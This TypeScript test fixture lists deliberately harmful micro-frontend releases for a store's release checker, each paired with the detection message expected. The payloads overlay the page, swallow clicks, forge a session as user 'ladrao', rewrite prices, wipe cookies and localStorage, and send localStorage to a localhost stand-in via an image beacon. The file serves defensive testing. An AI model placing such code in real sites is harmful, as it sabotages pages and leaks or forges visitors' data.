import { good, node, type Published } from "./bad-releases";

/** A release with a working page that harms the rest of the store after rendering. */
const after = (code: string, leaving = ""): Published => ({
  server: node(good),
  parts: {
    component: `() => {
      React.useEffect(() => { ${code}; return () => { ${leaving} }; }, []);
      return createElement("h1", null, "Limpador");
    }`,
  },
});

/** The same with the cache of responses that all areas share. */
const withCache = (code: string, leaving = ""): Published => ({
  server: node(good),
  parts: {
    first: `
      const cacheOf = async () => {
        const [{ get }] = Object.values(globalThis.store_remote_tools.scope["@store/shared-data/query"]);
        return (await get())();
      };`,
    component: `(await (async () => {
      const { useQueryClient } = await cacheOf();
      return () => {
        const client = useQueryClient();
        React.useEffect(() => { ${code}; return () => { ${leaving} }; }, []);
        return createElement("h1", null, "Limpador");
      };
    })())`,
  },
});

const covering = (style: string) =>
  `document.body.append(Object.assign(document.createElement("div"), { id: "over", style: "position:fixed;z-index:9999;${style}" }))`;
// A style element of its own would be against the policy of the page.
const styled = (rule: string) =>
  `const sheet = new CSSStyleSheet(); sheet.replaceSync("${rule}"); document.adoptedStyleSheets = [sheet]`;

/** Harm to others, the release, and what is said of it. Each would be live without a visitor who goes on. */
export const harmfulReleases: [what: string, release: Published, sentence: RegExp][] = [
  ["lays itself over the page", after(covering("inset:0")), /<div id="over".* lies on "Ativos Já" in the header/],
  [
    "lays itself over the header and lets clicks through",
    after(covering("inset:0 0 auto;height:4rem;background:red;pointer-events:none")),
    /after it, \/ has <div id="over".* beside the store/,
  ],
  [
    "comes back a second after it was left",
    after(
      "",
      'setTimeout(() => { history.pushState(null, "", "/limpar-criativo"); dispatchEvent(new PopStateEvent("popstate")); }, 1000)',
    ),
    /after it, \/ gives way to .*\/limpar-criativo/,
  ],
  [
    "clears everybody's responses again and again",
    withCache("setInterval(() => client.clear(), 200)"),
    /after it, \/\w* lacks what it shows without it/,
  ],
  [
    "clears everybody's responses when it is left",
    withCache("", "client.clear()"),
    /\d+ responses are gone that \/ had cached/,
  ],
  [
    "shows other prices in other areas",
    withCache(`setInterval(() => {
      for (const query of client.getQueryCache().getAll()) {
        const data = JSON.stringify(query.state.data ?? null);
        if (data.includes('"price":')) query.setData(JSON.parse(data.replace(/"price":[\\d.]+/g, '"price":1')));
      }
    }, 100)`),
    /after it, \/ has other prices/,
  ],
  [
    "swallows every click",
    after('addEventListener("click", (event) => { event.preventDefault(); event.stopImmediatePropagation(); }, true)'),
    /a click on "Ativos Já" in the header leads to \/limpar-criativo/,
  ],
  [
    "keeps clicks from the shell",
    after('addEventListener("click", (event) => event.stopImmediatePropagation(), true)'),
    /after it, \/ was loaded as a whole page/,
  ],
  [
    "swallows the Tab key",
    after('addEventListener("keydown", (event) => event.preventDefault(), true)'),
    /after it, \/ does not heed the Tab key/,
  ],
  ["keeps pages from scrolling", after('document.body.style.overflow = "hidden"'), /after it, \/ does not scroll/],
  [
    "titles other pages",
    after('setInterval(() => { document.title = "HACKED"; }, 300)'),
    /after it, \/ has the title "HACKED"/,
  ],
  [
    "writes into other pages",
    after(
      'setInterval(() => { const h1 = document.querySelector("main h1"); if (location.pathname === "/") h1.textContent = "Fechado"; }, 300)',
    ),
    /after it, \/ has the heading "Fechado"/,
  ],
  [
    "leaves its style behind",
    after(styled("header, main { opacity: 0.4 }")),
    /after it, \/ has another style in header, main/,
  ],
  ["forgets what others have stored", after("localStorage.clear()"), /after it, \/ lost what was in its localStorage/],
  [
    "deletes every cookie",
    after(
      'for (const each of document.cookie.split("; ")) document.cookie = each.split("=")[0] + "=; max-age=0; path=/"',
    ),
    /after it, \/ lost what was in its cookies/,
  ],
  [
    "signs visitors in as another user",
    after('localStorage.setItem("store-session", JSON.stringify({ user: { id: "ladrao" } }))'),
    /after it, \/ is signed in as ladrao/,
  ],
  [
    "sends it away once it was left",
    after("", 'setTimeout(() => { new Image().src = "http://localhost:9/?" + JSON.stringify(localStorage); }, 500)'),
    /against the policy of the page: img-src http:\/\/localhost:9/,
  ],
  [
    "fills the visitor's history",
    after('for (let i = 0; i < 20; i++) history.pushState(null, "", location.href)'),
    /it adds \d+ entries to the history/,
  ],
  ["talks by itself", after('setTimeout(() => alert("Oferta!"), 500)'), /it opens a dialog by itself: Oferta!/],
  [
    "opens a window at a click on something else",
    after('addEventListener("click", () => open("/limpar-criativo?anuncio"), true)'),
    /it opens .*\/limpar-criativo\?anuncio by itself/,
  ],
  [
    "changes what all code shares once it was left",
    after("", "setTimeout(() => { const { fetch } = window; window.fetch = (...all) => fetch(...all); }, 300)"),
    /an uncaught error: fetch was to be replaced/,
  ],
];

// Code that runs long after any check of a release.

/** Replaces what all areas call by name. */
export const lateReplacement = `
  window.fetch = window.setTimeout = history.pushState = history.replaceState = () => {};
  Storage.prototype.removeItem = EventTarget.prototype.addEventListener = () => {};`;

/** Harm to the whole page, the code, and what is said of the release. */
export const lateHarms: [what: string, code: string, sentence: string][] = [
  ["lays itself over the page", covering("inset:0"), "lies over the header"],
  [
    "enlarges its own page over the header",
    'document.querySelector("main h1").style = "position:fixed;inset:0;z-index:9999"',
    "lies over the header",
  ],
  ["empties the page", "document.body.replaceChildren()", "takes the page away"],
  ["empties the document", "document.documentElement.replaceChildren()", "takes the page away"],
  ["empties the shell's part", 'document.getElementById("root").innerHTML = ""', "takes the page away"],
  ["takes the header away", 'document.querySelector("header").remove()', "takes the page away"],
  [
    "goes back to its page again and again",
    `setInterval(() => { history.pushState(null, "", "/limpar-criativo"); dispatchEvent(new PopStateEvent("popstate")); }, 300)`,
    "keeps changing the address",
  ],
];
